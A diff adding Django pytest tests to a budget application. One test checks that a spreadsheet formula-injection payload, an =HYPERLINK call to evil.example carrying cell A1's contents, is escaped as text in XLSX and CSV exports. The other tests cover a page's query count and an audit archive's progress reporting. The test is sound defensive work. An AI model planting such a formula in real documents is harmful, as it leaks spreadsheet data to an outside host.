@@ -18,6 +18,7 @@ from openpyxl import load_workbook
 from accompagnements.models import CompteRendu, SupportTemoin
 from accompagnements.services import seance_mark_held
 from budget import services
+from budget.audit import dossier_controle
 from budget.cerfa import Financement, cerfa_chiffres
 from budget.dashboard import programme_context
 from budget.models import Export
@@ -372,3 +373,57 @@ def test_reports_are_refused_to_people_outside_the_budget(client, programme):
     client.force_login(UserFactory(roles=["candidat"]))
     assert client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": "bilan_pdf"}).status_code == 403
     assert not Export.objects.exists()
+
+
+@pytest.mark.django_db(transaction=True)
+def test_typed_text_never_runs_as_a_formula_in_the_reports(client, coordinateur):
+    programme = ProgrammeFactory()
+    services.autre_depense_create(
+        programme=programme,
+        categorie="essaimage",
+        libelle='=HYPERLINK("https://evil.example/?"&A1,"clic")',
+        date_depense=timezone.localdate(),
+        montant=Decimal("10.00"),
+        by=coordinateur,
+    )
+    client.force_login(coordinateur)
+    client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": "bilan_xlsx"})
+    client.post(reverse("budget:dossier_controle_request", args=[programme.pk]))
+    bilan, dossier = Export.objects.order_by("pk")
+    sheet = load_workbook(io.BytesIO(_download(client, bilan)))["Essaimage"]
+    assert sheet["B2"].value.startswith("'=HYPERLINK") and sheet["B2"].data_type == "s"
+    archive = zipfile.ZipFile(io.BytesIO(_download(client, dossier)))
+    assert "'=HYPERLINK" in archive.read("programme/autres-depenses.csv").decode("utf-8-sig")
+
+
+@pytest.mark.django_db
+def test_documents_page_reads_a_constant_number_of_queries(client, coordinateur, django_assert_max_num_queries):
+    programme = ProgrammeFactory()
+    accompagnements = [AccompagnementFactory(candidature__programme=programme) for _ in range(3)]
+    for index in range(12):
+        Export.objects.create(
+            programme=programme,
+            type_export=["bilan_pdf", "cerfa_xlsx", "dossier_controle"][index % 3],
+            accompagnement=accompagnements[index % 3] if index % 3 == 2 else None,
+            demande_par=coordinateur,
+            etat="pret",
+            progression=100,
+            termine_le=timezone.now(),
+        )
+    client.force_login(coordinateur)
+    with django_assert_max_num_queries(8):
+        response = client.get(reverse("budget:documents", args=[programme.pk]))
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert page.count("télécharger") == 12 and accompagnements[2].reference in page
+
+
+@pytest.mark.django_db(transaction=True)
+def test_the_audit_file_reports_its_progress_as_it_goes(coordinateur):
+    programme, _accompagnement, _convention = _dossier_demo(coordinateur)
+    autre = AccompagnementFactory(candidature__programme=programme)
+    seance_livree(autre)
+    steps = []
+    with dossier_controle(programme=programme, progress=steps.append) as archive:
+        assert zipfile.ZipFile(archive).testzip() is None
+    assert steps == sorted(steps) and len(steps) == 3 and steps[0] < 90 and steps[-1] == 95
